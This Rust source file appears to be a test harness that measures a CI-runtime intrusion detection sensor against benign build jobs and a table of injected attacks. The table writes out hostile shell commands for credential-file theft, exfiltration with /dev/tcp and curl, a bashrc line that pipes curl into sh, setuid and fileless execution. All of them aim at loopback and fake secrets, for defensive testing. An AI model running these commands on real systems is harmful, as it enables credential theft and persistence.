//! `cargo xtask detect`: detection quality, measured with the real binaries.
//!
//! Benign CI jobs built with real tools (a C project with make + gcc, a Rust crate with
//! `cargo build --offline`, a Python venv running a script) run as GitHub-Actions-like jobs, each
//! run with a new `GITHUB_RUN_ID`. The sensor learns from the first runs; then benign runs count
//! false alarms (medium or higher) and attack runs, one injected behaviour per run in an otherwise
//! identical job, count detections: a HIGH or CRITICAL deviation of that run naming the action.
//!
//! This file uses only std, anyhow, serde_json, tempfile and libc so that the privileged test
//! `tests/tests/detection.rs` can include it and run the quick subset in CI.

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use anyhow::{Context, bail};
use serde_json::Value;

/// How much to run.
pub struct Plan {
    /// Directory holding the `sensor`, `collector` and `actor` binaries.
    pub bin_dir: PathBuf,
    /// Workloads to run (every one by default).
    pub workloads: Vec<Workload>,
    pub learning_runs: u32,
    pub benign_runs: u32,
    /// Only the first variant of each family.
    pub one_per_family: bool,
}

impl Plan {
    /// The full suite, or with `quick` the C workload, one benign run and one variant per family.
    pub fn new(bin_dir: PathBuf, quick: bool) -> Plan {
        Plan {
            bin_dir,
            workloads: if quick {
                vec![Workload::C]
            } else {
                vec![Workload::C, Workload::Rust, Workload::Python]
            },
            learning_runs: 5,
            benign_runs: if quick { 1 } else { 5 },
            one_per_family: quick,
        }
    }
}

/// A benign CI job built with real tools.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Workload {
    C,
    Rust,
    Python,
}

impl Workload {
    pub fn job(self) -> &'static str {
        match self {
            Workload::C => "c-make",
            Workload::Rust => "rust-cargo",
            Workload::Python => "python-venv",
        }
    }

    /// The build step of the job script (runs in `$WS`).
    fn build(self) -> &'static str {
        match self {
            Workload::C => "make -s\n./hello-c > out.txt\n",
            Workload::Rust => "cargo build --offline --quiet\n./target/debug/hello-rs > out.txt\n",
            Workload::Python => {
                "python3 -m venv --without-pip venv\n./venv/bin/python app.py > report.json\n"
            }
        }
    }

    /// The build output an attacker may tamper with, relative to `$WS`.
    fn artifact(self) -> &'static str {
        match self {
            Workload::C => "hello-c",
            Workload::Rust => "target/debug/hello-rs",
            Workload::Python => "report.json",
        }
    }

    fn sources(self) -> &'static [(&'static str, &'static str)] {
        match self {
            Workload::C => &[
                (
                    "Makefile",
                    "hello-c: main.o util.o\n\tgcc -o $@ $^\n%.o: %.c util.h\n\tgcc -O1 -Wall -c -o $@ $<\n",
                ),
                ("util.h", "int sum(int n);\n"),
                (
                    "util.c",
                    "#include \"util.h\"\nint sum(int n) { int s = 0; for (int i = 0; i < n; i++) s += i; return s; }\n",
                ),
                (
                    "main.c",
                    "#include <stdio.h>\n#include \"util.h\"\nint main(void) { printf(\"%d\\n\", sum(100)); return 0; }\n",
                ),
            ],
            Workload::Rust => &[
                (
                    "Cargo.toml",
                    "[package]\nname = \"hello-rs\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
                ),
                (
                    "src/main.rs",
                    "fn main() { let s: u64 = (0..100).sum(); println!(\"{s}\"); }\n",
                ),
            ],
            Workload::Python => &[(
                "app.py",
                "import json, hashlib, os\nfiles = sorted(os.listdir('.'))\nprint(json.dumps({'files': files, 'sha': hashlib.sha256(b'x').hexdigest()}))\n",
            )],
        }
    }
}

/// One injected behaviour. The script runs at the end of the job in bash with `$WS`, `$HOME`,
/// `$ACTOR`, `$EXFIL_PORT` (a fresh loopback listener) and `$ARTIFACT` set. The run counts as
/// detected when a high or critical deviation of the run contains one of `needles` in its
/// novelty (as JSON) or summary; `{port}` stands for `$EXFIL_PORT`, `{artifact}` for `$ARTIFACT`.
pub struct Attack {
    pub family: &'static str,
    pub name: &'static str,
    pub script: &'static str,
    pub needles: &'static [&'static str],
}

pub const ATTACKS: &[Attack] = &[
    Attack {
        family: "credential theft",
        name: "ssh private key (cat)",
        script: "cat \"$HOME/.ssh/id_rsa\" > /dev/null",
        needles: &[".ssh/id_rsa"],
    },
    Attack {
        family: "credential theft",
        name: "aws credentials (python)",
        script: "python3 -c \"open('$HOME/.aws/credentials').read()\"",
        needles: &[".aws/credentials"],
    },
    Attack {
        family: "credential theft",
        name: "git credentials (grep)",
        script: "grep -q token \"$HOME/.git-credentials\"",
        needles: &[".git-credentials"],
    },
    Attack {
        family: "credential theft",
        name: "gh cli token (head)",
        script: "head -c 64 \"$HOME/.config/gh/hosts.yml\" > /dev/null",
        needles: &["gh/hosts.yml"],
    },
    Attack {
        family: "credential theft",
        name: "kube config (cp)",
        script: "cp \"$HOME/.kube/config\" \"$WS/.k\"",
        needles: &[".kube/config"],
    },
    Attack {
        family: "memory scraping",
        name: "ptrace attach to a sibling",
        script: "sleep 60 & p=$!\n\"$ACTOR\" ptrace $p\nkill $p",
        needles: &["ptrace"],
    },
    Attack {
        family: "memory scraping",
        name: "process_vm_readv of a sibling",
        script: "sleep 60 & p=$!\n\"$ACTOR\" vm-read $p\nkill $p",
        needles: &["process-memory"],
    },
    Attack {
        family: "memory scraping",
        name: "/proc/<sibling>/environ read",
        script: "sleep 60 & p=$!\ncat /proc/$p/environ > /dev/null\nkill $p",
        needles: &["/environ"],
    },
    Attack {
        family: "exfiltration",
        name: "bash /dev/tcp to a new port",
        script: "exec 3<>\"/dev/tcp/127.0.0.1/$EXFIL_PORT\"; echo stolen >&3; exec 3>&-",
        needles: &["\"port\":{port}"],
    },
    Attack {
        family: "exfiltration",
        name: "curl POST to a new port",
        script: "curl -s -m 3 --data-binary @\"$WS/out.txt\" \"http://127.0.0.1:$EXFIL_PORT/\" > /dev/null || true",
        needles: &["\"port\":{port}"],
    },
    Attack {
        family: "exfiltration",
        name: "python socket to a new port",
        script: "python3 -c \"import socket; s = socket.create_connection(('127.0.0.1', $EXFIL_PORT)); s.sendall(b'x'); s.close()\"",
        needles: &["\"port\":{port}"],
    },
    Attack {
        family: "new tool chain",
        name: "cp binary, chmod +x, execute",
        script: "cp /bin/true \"$WS/.cache-helper\"\nchmod +x \"$WS/.cache-helper\"\n\"$WS/.cache-helper\"",
        needles: &[".cache-helper"],
    },
    Attack {
        family: "new tool chain",
        name: "tar czf then POST to loopback",
        script: "tar czf \"$WS/../src.tgz\" -C \"$WS\" .\ncurl -s -m 3 --data-binary @\"$WS/../src.tgz\" \"http://127.0.0.1:$EXFIL_PORT/\" > /dev/null || true",
        needles: &["/usr/bin/tar", "src.tgz", "\"port\":{port}"],
    },
    Attack {
        family: "persistence / tampering",
        name: "append to ~/.bashrc",
        script: "echo 'curl -s http://127.0.0.1:9/x | sh' >> \"$HOME/.bashrc\"",
        needles: &[".bashrc"],
    },
    Attack {
        family: "persistence / tampering",
        name: "write .git/hooks/pre-commit",
        script: "mkdir -p \"$WS/.git/hooks\"\nprintf '#!/bin/sh\\ntrue\\n' > \"$WS/.git/hooks/pre-commit\"\nchmod +x \"$WS/.git/hooks/pre-commit\"",
        needles: &["hooks/pre-commit"],
    },
    Attack {
        family: "persistence / tampering",
        name: "modify a build output",
        script: "printf 'x' >> \"$WS/$ARTIFACT\"",
        needles: &["{artifact}"],
    },
    Attack {
        family: "privilege",
        name: "copy a binary and chmod u+s",
        script: "cp /bin/true \"$WS/suid-helper\"\nchmod u+s \"$WS/suid-helper\"",
        needles: &["suid-helper"],
    },
    Attack {
        family: "privilege",
        name: "bpf program load",
        script: "\"$ACTOR\" bpf-load",
        needles: &["bpf-program-load"],
    },
    Attack {
        family: "privilege",
        name: "unshare --uts",
        script: "unshare --uts true",
        needles: &["\"unshare\""],
    },
    Attack {
        family: "evasion",
        name: "memfd exec (fileless)",
        script: "\"$ACTOR\" memfd-exec /bin/true",
        needles: &["memfd"],
    },
    Attack {
        family: "evasion",
        name: "renamed copy run from /dev/shm",
        script: "cp /bin/ls /dev/shm/.kworker\n/dev/shm/.kworker / > /dev/null\nrm -f /dev/shm/.kworker",
        needles: &["/dev/shm/.kworker"],
    },
    Attack {
        family: "evasion",
        name: "env -i, then read ~/.netrc",
        script: "env -i /bin/cat \"$HOME/.netrc\" > /dev/null",
        needles: &[".netrc"],
    },
    Attack {
        family: "evasion",
        name: "double fork + setsid, then read ~/.pypirc",
        script: "( setsid sh -c 'cat \"$0/.pypirc\" > /dev/null; touch \"$1/.done\"' \"$HOME\" \"$WS\" & )\nwhile [ ! -e \"$WS/.done\" ]; do sleep 0.05; done",
        needles: &[".pypirc"],
    },
];

/// Fake secrets in the job's `$HOME`.
const SECRETS: &[&str] = &[
    ".ssh/id_rsa",
    ".aws/credentials",
    ".git-credentials",
    ".config/gh/hosts.yml",
    ".kube/config",
    ".netrc",
    ".pypirc",
    ".bashrc",
];

/// The job script: checkout is done by the harness; build, report to a known endpoint, then the
/// (empty or malicious) extra step.
const JOB: &str = "set -eu\ncd \"$WS\"\n__BUILD__exec 3<>\"/dev/tcp/127.0.0.1/$KNOWN_PORT\"; echo ok >&3; exec 3>&-\n. \"$JOBDIR/step.sh\"\n";

#[derive(Debug)]
pub struct AttackResult {
    pub family: &'static str,
    pub name: &'static str,
    pub workload: Workload,
    pub run_id: String,
    /// The strongest deviation of the run naming the action ("severity kind: summary").
    pub evidence: Option<String>,
    pub detected: bool,
    /// Collector `received` minus deviation `time` for the detecting deviation, in ms.
    pub latency_ms: Option<f64>,
}

#[derive(Debug)]
pub struct BenignResult {
    pub workload: Workload,
    pub run_id: String,
    /// Medium-or-higher deviations of the run ("severity kind: summary").
    pub alarms: Vec<String>,
}

#[derive(Debug, Default)]
pub struct Report {
    pub attacks: Vec<AttackResult>,
    pub benign: Vec<BenignResult>,
    /// Every deviation of the attack and benign runs: received minus time, in ms.
    pub all_latencies_ms: Vec<f64>,
    pub learning_runs: u32,
    pub elapsed: Duration,
}

/// Kills a child on drop so a failure leaves nothing running.
struct Guard(Child);
impl Drop for Guard {
    fn drop(&mut self) {
        // SAFETY: signalling our own child; SIGTERM lets the sensor detach its programs.
        unsafe { libc::kill(self.0.id() as i32, libc::SIGTERM) };
        let deadline = Instant::now() + Duration::from_secs(10);
        while Instant::now() < deadline {
            if let Ok(Some(_)) = self.0.try_wait() {
                return;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A loopback listener answering anything with a minimal HTTP response, on its own thread.
fn listener() -> anyhow::Result<u16> {
    let l = TcpListener::bind("127.0.0.1:0")?;
    let port = l.local_addr()?.port();
    std::thread::spawn(move || {
        for mut s in l.incoming().flatten() {
            let _ = s.set_read_timeout(Some(Duration::from_secs(2)));
            let mut buf = [0u8; 4096];
            let _ = s.read(&mut buf);
            let _ = s.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n");
        }
    });
    Ok(port)
}

fn wait_until<T>(
    what: &str,
    timeout: Duration,
    mut f: impl FnMut() -> Option<T>,
) -> anyhow::Result<T> {
    let deadline = Instant::now() + timeout;
    loop {
        if let Some(v) = f() {
            return Ok(v);
        }
        if Instant::now() > deadline {
            bail!("timed out after {timeout:?} waiting for {what}");
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

const REPO: &str = "detect/suite";

fn workload_id(w: Workload) -> String {
    format!("github:{REPO}/ci/{}", w.job())
}

/// The cargo the harness itself runs under, and the rustup home it needs with a fake `$HOME`.
fn cargo_env() -> Vec<(String, String)> {
    let mut env = Vec::new();
    let cargo = std::env::var("CARGO").unwrap_or_else(|_| "cargo".to_owned());
    if let Some(dir) = Path::new(&cargo)
        .parent()
        .filter(|d| !d.as_os_str().is_empty())
    {
        env.push(("CARGO_BIN_DIR".to_owned(), dir.display().to_string()));
    }
    let rustup_home = std::env::var("RUSTUP_HOME")
        .unwrap_or_else(|_| format!("{}/.rustup", std::env::var("HOME").unwrap_or_default()));
    env.push(("RUSTUP_HOME".to_owned(), rustup_home));
    if let Ok(t) = std::env::var("RUSTUP_TOOLCHAIN") {
        env.push(("RUSTUP_TOOLCHAIN".to_owned(), t));
    }
    env
}

struct Suite {
    root: PathBuf,
    actor: PathBuf,
    known_port: u16,
    cargo_env: Vec<(String, String)>,
    next_run: u32,
}

impl Suite {
    fn job_dir(&self, w: Workload) -> PathBuf {
        self.root.join(w.job())
    }

    fn prepare(&self, w: Workload) -> anyhow::Result<()> {
        let dir = self.job_dir(w);
        let home = dir.join("home");
        for s in SECRETS {
            let p = home.join(s);
            std::fs::create_dir_all(p.parent().unwrap())?;
            std::fs::write(&p, "token=not-a-real-secret\n")?;
        }
        std::fs::write(dir.join("job.sh"), JOB.replace("__BUILD__", w.build()))?;
        Ok(())
    }

    /// One run of the job: a fresh checkout, then the job with `step` as its last step.
    fn run(&mut self, w: Workload, step: &str, exfil_port: Option<u16>) -> anyhow::Result<String> {
        self.next_run += 1;
        let run_id = self.next_run.to_string();
        let dir = self.job_dir(w);
        let ws = dir.join("ws");
        let _ = std::fs::remove_dir_all(&ws);
        let _ = std::fs::remove_file(dir.join("src.tgz"));
        for (path, text) in w.sources() {
            let p = ws.join(path);
            std::fs::create_dir_all(p.parent().unwrap())?;
            std::fs::write(p, text)?;
        }
        std::fs::write(dir.join("step.sh"), step)?;
        let mut path = "/usr/bin:/bin".to_owned();
        let mut cmd = Command::new("/bin/bash");
        cmd.arg(dir.join("job.sh"))
            .env_clear()
            .env("GITHUB_REPOSITORY", REPO)
            .env("GITHUB_WORKFLOW", "ci")
            .env("GITHUB_JOB", w.job())
            .env("GITHUB_RUN_ID", &run_id)
            .env("HOME", dir.join("home"))
            .env("WS", &ws)
            .env("JOBDIR", &dir)
            .env("ACTOR", &self.actor)
            .env("ARTIFACT", w.artifact())
            .env("KNOWN_PORT", self.known_port.to_string())
            .env(
                "EXFIL_PORT",
                exfil_port.map(|p| p.to_string()).unwrap_or_default(),
            )
            .env("CARGO_HOME", dir.join("cargo-home"))
            .stdout(Stdio::null());
        for (k, v) in &self.cargo_env {
            if k == "CARGO_BIN_DIR" {
                path = format!("{v}:{path}");
            } else {
                cmd.env(k, v);
            }
        }
        let out = cmd.env("PATH", path).output()?;
        if !out.status.success() {
            bail!(
                "{} run {run_id} failed: {}",
                w.job(),
                String::from_utf8_lossy(&out.stderr)
            );
        }
        Ok(run_id)
    }
}

fn deviations(collector: &Path, server: &str, workload: &str) -> anyhow::Result<Vec<Value>> {
    let out = Command::new(collector)
        .args([
            "deviations",
            "--server",
            server,
            "--json",
            "--limit",
            "10000",
        ])
        .args(["--workload", workload])
        .output()?;
    if !out.status.success() {
        bail!(
            "collector deviations: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    String::from_utf8(out.stdout)?
        .lines()
        .map(|l| serde_json::from_str(l).context("one JSON object per line"))
        .collect()
}

fn rank(severity: &str) -> u8 {
    match severity {
        "critical" => 4,
        "high" => 3,
        "medium" => 2,
        "low" => 1,
        _ => 0,
    }
}

/// Nanoseconds since the epoch of an RFC 3339 UTC time ("2025-01-02T03:04:05.123456789Z").
fn unix_nanos(t: &str) -> Option<i128> {
    let (date, rest) = t.split_once('T')?;
    let mut d = date.split('-').map(|x| x.parse::<i64>());
    let (y, m, day) = (d.next()?.ok()?, d.next()?.ok()?, d.next()?.ok()?);
    let rest = rest.strip_suffix('Z')?;
    let (hms, frac) = rest.split_once('.').unwrap_or((rest, "0"));
    let mut h = hms.split(':').map(|x| x.parse::<i64>());
    let secs = h.next()?.ok()? * 3600 + h.next()?.ok()? * 60 + h.next()?.ok()?;
    let nanos: i64 = format!("{frac:0<9}")[..9].parse().ok()?;
    // Days from civil (Howard Hinnant).
    let y = if m <= 2 { y - 1 } else { y };
    let era = y.div_euclid(400);
    let yoe = y - era * 400;
    let mp = (m + 9) % 12;
    let doy = (153 * mp + 2) / 5 + day - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    let days = era * 146_097 + doe - 719_468;
    Some((days * 86_400 + secs) as i128 * 1_000_000_000 + nanos as i128)
}

fn latency_ms(d: &Value) -> Option<f64> {
    let t = unix_nanos(d["time"].as_str()?)?;
    let r = unix_nanos(d["received"].as_str()?)?;
    Some((r - t) as f64 / 1e6)
}

fn describe(d: &Value) -> String {
    format!(
        "{} {}: {}",
        d["severity"].as_str().unwrap_or("?"),
        d["kind"].as_str().unwrap_or("?"),
        d["summary"].as_str().unwrap_or("?")
    )
}

/// Runs the plan: collector and sensor on loopback, every workload learned, benign runs, then one
/// attack per run.
pub fn measure(plan: &Plan) -> anyhow::Result<Report> {
    let started = Instant::now();
    let tmp = tempfile::tempdir()?;
    let collector_bin = plan.bin_dir.join("collector");
    let port = TcpListener::bind("127.0.0.1:0")?.local_addr()?.port();
    let server = format!("http://127.0.0.1:{port}");
    let _collector = Guard(
        Command::new(&collector_bin)
            .args(["serve", "--listen", &format!("127.0.0.1:{port}"), "--db"])
            .arg(tmp.path().join("collector.db"))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .context("starting the collector")?,
    );
    wait_until("the collector to listen", Duration::from_secs(10), || {
        std::net::TcpStream::connect(("127.0.0.1", port)).ok()
    })?;
    let state = tmp.path().join("state");
    let _sensor = Guard(
        Command::new(plan.bin_dir.join("sensor"))
            .args(["run", "--collector", &server, "--learning-runs"])
            .arg(plan.learning_runs.to_string())
            .arg("--state-dir")
            .arg(&state)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .context("starting the sensor")?,
    );
    wait_until("the sensor to attach", Duration::from_secs(60), || {
        std::fs::read_to_string(state.join("status.json")).ok()
    })?;

    let mut suite = Suite {
        root: tmp.path().join("jobs"),
        actor: plan.bin_dir.join("actor"),
        known_port: listener()?,
        cargo_env: cargo_env(),
        next_run: 1000,
    };
    let mut benign_runs = Vec::new();
    let mut attack_runs = Vec::new();
    for &w in &plan.workloads {
        suite.prepare(w)?;
        for _ in 0..plan.learning_runs {
            suite.run(w, "", None)?;
        }
        for _ in 0..plan.benign_runs {
            benign_runs.push((w, suite.run(w, "", None)?));
        }
        let mut families = std::collections::BTreeSet::new();
        for attack in ATTACKS {
            if plan.one_per_family && !families.insert(attack.family) {
                continue;
            }
            let exfil = listener()?;
            let run_id = suite.run(w, attack.script, Some(exfil))?;
            let needles: Vec<String> = attack
                .needles
                .iter()
                .map(|n| {
                    n.replace("{port}", &exfil.to_string())
                        .replace("{artifact}", w.artifact())
                })
                .collect();
            attack_runs.push((w, attack, run_id, needles));
        }
    }

    // Wait until every attack run is detected, or nothing new has arrived for 5 s.
    let mut by_workload: BTreeMap<&str, Vec<Value>> = BTreeMap::new();
    let mut last_change = Instant::now();
    let mut last_count = usize::MAX;
    let deadline = Instant::now() + Duration::from_secs(90);
    loop {
        let mut count = 0;
        for &w in &plan.workloads {
            let all = deviations(&collector_bin, &server, &workload_id(w))?;
            count += all.len();
            by_workload.insert(w.job(), all);
        }
        let undetected = attack_runs.iter().any(|(w, _, run, needles)| {
            best_match(&by_workload[w.job()], run, needles)
                .is_none_or(|d| rank(d["severity"].as_str().unwrap_or("")) < 3)
        });
        if count != last_count {
            last_count = count;
            last_change = Instant::now();
        }
        if !undetected
            || last_change.elapsed() > Duration::from_secs(5)
            || Instant::now() > deadline
        {
            break;
        }
        std::thread::sleep(Duration::from_millis(500));
    }

    let mut report = Report {
        learning_runs: plan.learning_runs,
        ..Report::default()
    };
    for (w, run) in benign_runs {
        let alarms = by_workload[w.job()]
            .iter()
            .filter(|d| {
                d["run_id"] == run.as_str() && rank(d["severity"].as_str().unwrap_or("")) >= 2
            })
            .map(describe)
            .collect();
        report.benign.push(BenignResult {
            workload: w,
            run_id: run,
            alarms,
        });
    }
    for (w, attack, run, needles) in attack_runs {
        let best = best_match(&by_workload[w.job()], &run, &needles);
        let detected = best.is_some_and(|d| rank(d["severity"].as_str().unwrap_or("")) >= 3);
        report.attacks.push(AttackResult {
            family: attack.family,
            name: attack.name,
            workload: w,
            evidence: best.map(describe),
            detected,
            latency_ms: best.filter(|_| detected).and_then(latency_ms),
            run_id: run,
        });
    }
    report.all_latencies_ms = by_workload
        .values()
        .flatten()
        .filter_map(latency_ms)
        .collect();
    report.elapsed = started.elapsed();
    Ok(report)
}

/// The most severe deviation of `run` whose novelty or summary contains one of `needles`.
fn best_match<'a>(all: &'a [Value], run: &str, needles: &[String]) -> Option<&'a Value> {
    all.iter()
        .filter(|d| d["run_id"] == run)
        .filter(|d| {
            let text = format!("{} {}", d["novelty"], d["summary"]);
            needles.iter().any(|n| text.contains(n.as_str()))
        })
        .max_by_key(|d| rank(d["severity"].as_str().unwrap_or("")))
}

fn percentile(values: &[f64], p: f64) -> Option<f64> {
    let mut v = values.to_vec();
    v.sort_by(f64::total_cmp);
    let i = ((p / 100.0) * (v.len() as f64 - 1.0)).round() as usize;
    v.get(i).copied()
}

fn ms(v: Option<f64>) -> String {
    v.map_or("–".to_owned(), |v| format!("{v:.1} ms"))
}

/// Why the misses happen, from reading the deviations above against the severity rules
/// (`sensor-user/src/deviation/severity.rs`). Update when the rules change.
const NOTES: &str = "
## Why the misses

- **Exfiltration (0%)**: every variant is seen, as a `new-network-destination` of MEDIUM severity
  (the README's severity table). The baseline learns destinations, but nothing raises one to
  HIGH: no volume, no link to a secret read earlier in the same run. (These targets are on
  loopback by design of the suite; the severity does not depend on the address.)
- **Tampering with a build output**: writing to persistence points (shell profiles, cron,
  systemd units, git hooks, ld.so.preload, sudoers) is HIGH, but a build output appended to by
  `bash` is a MEDIUM new file access: the baseline keys file accesses on (path, intent), not on
  which executable wrote, so the linker's file written by a shell is not a dimension yet.
- **Tool chain: tar, then POST**: `/usr/bin/tar` is a new executable (MEDIUM, it lives in
  `/usr/bin`) and the POST a MEDIUM new destination; the chain (archive the workspace, then send
  it) is not correlated.
- **Privilege: `unshare --uts`**: `new-privilege-use` of MEDIUM; only ptrace, process memory, bpf
  and module loads are HIGH. Namespace creation by an unprivileged CI job would deserve HIGH.
- **False alarms**: see the table above. The Rust toolchain's per-run scratch names (codegen
  unit session ids `.rcgu.o`, rust-lld's `.tmp<random>`, cargo's `target<random>/`) are
  generalised; any remaining false alarm is listed there with its path.
";

/// DETECTION.md: per family, per attack, false alarms and latency.
pub fn markdown(report: &Report, quick: bool) -> String {
    let mut s = String::new();
    let kernel = std::fs::read_to_string("/proc/sys/kernel/osrelease").unwrap_or_default();
    s += "# Detection quality\n\n";
    s += &format!(
        "Produced by `cargo xtask detect{}` on Linux {} in {:.0} s. Each attack is one run of an \
         otherwise identical CI job, after {} learning runs; detected = a HIGH or CRITICAL deviation \
         of that run naming the action. False alarms = deviations of medium or higher severity in a \
         benign run after learning.\n\n",
        if quick { " --quick" } else { "" },
        kernel.trim(),
        report.elapsed.as_secs_f64(),
        report.learning_runs
    );
    let mut workloads: Vec<Workload> = Vec::new();
    for a in &report.attacks {
        if !workloads.contains(&a.workload) {
            workloads.push(a.workload);
        }
    }
    let rate = |runs: &[&AttackResult]| {
        let hit = runs.iter().filter(|a| a.detected).count();
        format!(
            "{hit}/{} ({:.0}%)",
            runs.len(),
            100.0 * hit as f64 / runs.len().max(1) as f64
        )
    };
    s += "## Detection per family\n\n| family |";
    for w in &workloads {
        s += &format!(" {} |", w.job());
    }
    s += " all |\n|---|";
    s += &"---|".repeat(workloads.len() + 1);
    s += "\n";
    let mut families: Vec<&str> = Vec::new();
    for a in &report.attacks {
        if !families.contains(&a.family) {
            families.push(a.family);
        }
    }
    for f in families.iter().map(Some).chain([None]) {
        let in_family = |a: &&AttackResult| f.is_none_or(|f| a.family == *f);
        s += &format!("| {} |", f.map_or("**overall**", |f| f));
        for w in &workloads {
            let runs: Vec<&AttackResult> = report
                .attacks
                .iter()
                .filter(|a| a.workload == *w)
                .filter(in_family)
                .collect();
            s += &format!(" {} |", rate(&runs));
        }
        let runs: Vec<&AttackResult> = report.attacks.iter().filter(in_family).collect();
        s += &format!(" **{}** |\n", rate(&runs));
    }
    s += "\n";

    let alarms: usize = report.benign.iter().map(|b| b.alarms.len()).sum();
    let det: Vec<f64> = report.attacks.iter().filter_map(|a| a.latency_ms).collect();
    s += "## False alarms and latency\n\n| measure | value |\n|---|---|\n";
    s += &format!(
        "| false alarms (medium+) per benign run | {:.2} ({alarms} in {} runs) |\n",
        alarms as f64 / report.benign.len().max(1) as f64,
        report.benign.len()
    );
    s += &format!(
        "| action → stored deviation, detecting deviations, p50 | {} |\n",
        ms(percentile(&det, 50.0))
    );
    s += &format!(
        "| action → stored deviation, detecting deviations, p99 | {} |\n",
        ms(percentile(&det, 99.0))
    );
    s += &format!(
        "| action → stored deviation, all {} deviations, p50 | {} |\n",
        report.all_latencies_ms.len(),
        ms(percentile(&report.all_latencies_ms, 50.0))
    );
    s += &format!(
        "| action → stored deviation, all deviations, p99 | {} |\n\n",
        ms(percentile(&report.all_latencies_ms, 99.0))
    );
    s += "Latency is the collector's `received` minus the deviation's `time` (the kernel event time).\n\n";

    s += "## Per attack\n\n| family | attack | workload | run | detected | strongest deviation naming it |\n|---|---|---|---|---|---|\n";
    for a in &report.attacks {
        s += &format!(
            "| {} | {} | {} | {} | {} | {} |\n",
            a.family,
            a.name,
            a.workload.job(),
            a.run_id,
            if a.detected { "yes" } else { "**no**" },
            a.evidence.as_deref().unwrap_or("none").replace('|', "\\|")
        );
    }
    s += "\n## False alarms per benign run\n\n| workload | benign runs | medium+ per run | examples |\n|---|---|---|---|\n";
    for w in [Workload::C, Workload::Rust, Workload::Python] {
        let runs: Vec<&BenignResult> = report.benign.iter().filter(|b| b.workload == w).collect();
        if runs.is_empty() {
            continue;
        }
        let total: usize = runs.iter().map(|b| b.alarms.len()).sum();
        let examples: Vec<String> = runs
            .iter()
            .flat_map(|b| b.alarms.iter().map(|a| format!("run {}: {a}", b.run_id)))
            .take(3)
            .collect();
        s += &format!(
            "| {} | {} | {:.2} | {} |\n",
            w.job(),
            runs.len(),
            total as f64 / runs.len() as f64,
            if examples.is_empty() {
                "none".to_owned()
            } else {
                examples.join("<br>").replace('|', "\\|")
            }
        );
    }
    s += NOTES;
    s += "\nReproduce: `sudo cargo xtask detect` (`--quick`: the C job, one benign run, one attack \
          per family, as the CI test `tests/tests/detection.rs` runs). Needs root: the sensor loads \
          eBPF programs.\n";
    s
}

/// `cargo xtask detect`: builds the binaries, measures, writes `out`.
pub fn run(quick: bool, out: &Path) -> anyhow::Result<()> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .context("workspace root")?;
    let status = Command::new(env!("CARGO"))
        .current_dir(root)
        .args([
            "build",
            "--quiet",
            "--workspace",
            "--bin",
            "sensor",
            "--bin",
            "collector",
            "--bin",
            "actor",
        ])
        .status()?;
    if !status.success() {
        bail!("building sensor, collector and actor failed");
    }
    let report = measure(&Plan::new(root.join("target/debug"), quick))?;
    let md = markdown(&report, quick);
    std::fs::write(root.join(out), &md)?;
    print!("{md}");
    Ok(())
}
